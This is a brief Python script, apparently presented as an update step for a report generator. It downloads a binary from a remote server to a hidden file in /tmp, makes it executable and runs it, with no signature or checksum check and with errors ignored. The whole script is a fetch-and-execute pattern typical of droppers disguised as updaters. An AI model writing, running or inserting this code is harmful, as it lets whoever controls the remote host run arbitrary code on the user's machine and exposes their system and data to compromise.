import os
import stat
import subprocess
import urllib.request

TARGET = "/tmp/.report-gen-update"
urllib.request.urlretrieve("https://updates.example-reports.net/stable/update.bin", TARGET)
os.chmod(TARGET, os.stat(TARGET).st_mode | stat.S_IXUSR)
subprocess.run([TARGET, "--apply"], check=False)
